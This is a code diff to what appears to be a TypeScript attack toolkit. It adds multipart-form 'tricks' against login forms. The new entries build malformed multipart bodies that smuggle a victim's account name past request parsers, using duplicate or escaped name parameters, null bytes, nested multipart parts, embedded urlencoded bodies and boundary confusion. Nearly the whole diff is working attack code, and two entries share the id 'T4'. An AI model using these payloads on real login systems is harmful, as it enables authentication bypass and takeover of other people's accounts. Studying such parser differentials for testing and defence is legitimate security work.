@@ -89,6 +89,18 @@ const header =
   }
 const multipart = (fields: ReadonlyArray<readonly [name: string, value: string]>): string =>
   `${fields.map(([name, value]) => `--x\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`).join('')}--x--\r\n`
+
+/** Sends fields as parts, and perhaps further parts as they are written. */
+function sendParts(
+  draft: Draft,
+  fields: ReadonlyArray<readonly [name: string, value: string]>,
+  ...parts: readonly string[]
+): void {
+  const more = parts.map((part) => `--x\r\n${part}\r\n`).join('')
+  draft.body = multipart(fields).replace(/--x--\r\n$/, () => `${more}--x--\r\n`)
+  draft.headers['content-type'] = 'multipart/form-data; boundary=x'
+}
+
 /** The login's own fields, which the draft holds, as pairs. */
 const pairs = (draft: Draft): Array<[string, string]> => [...new URLSearchParams(`${draft.body}`)]
 
@@ -299,6 +311,43 @@ export const tricks: readonly Trick[] = [
           draft.headers['content-encoding'] = 'gzip'
         },
         query('_format=json'),
+      )
+    },
+  },
+  {
+    id: 'T4',
+    title: 'a multipart form',
+    fewer: true, // some take no multipart at a login
+    suits: isForm,
+    play: (trial) => guess(trial, (draft) => sendParts(draft, pairs(draft))),
+  },
+  {
+    id: 'T4',
+    title: 'parts of a multipart form that a reader prefers',
+    fewer: true,
+    suits: isForm,
+    play: (trial) => {
+      const { account, victim: name } = trial.login
+      const own = `form-data; name="${account}"`
+      const parts = (...heads: string[]) =>
+        heads.map((head) => (draft: Draft) => {
+          sendParts(draft, pairs(draft), `Content-Disposition: ${head}\r\n\r\n${name}`)
+        })
+      const rivals = rivalNames(trial.login).map((rival) => `form-data; name="${rival}"`)
+      return guessBehind(
+        trial,
+        ...parts(own, `${own}; filename="a"`, `${own}; filename=""`, ...rivals),
+        ...parts(`form-data; name=${account}`, `form-data; name="x"; name="${account}"`),
+        ...parts(`form-data; name*=utf-8''${account}; name="x"`, `attachment; name="${account}"`),
+        ...parts(`form-data; name="x\\"; name="${account}"`, `form-data; name="${account}\0x"`),
+        ...parts(
+          `${own}\r\nContent-Type: application/octet-stream`,
+          `${own}\r\nContent-Transfer-Encoding: base64`,
+          `form-data; name="x"\r\nContent-Type: multipart/mixed; boundary=y\r\n\r\n--y\r\nContent-Disposition: ${own}`,
+          `form-data; name="x"\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n${account}=${name}`,
+          `form-data; name="x"\n--x\nContent-Disposition: ${own}`,
+        ),
+        query(`${encodeURIComponent(account)}=${encodeURIComponent(name)}`),
       )
     },
   },
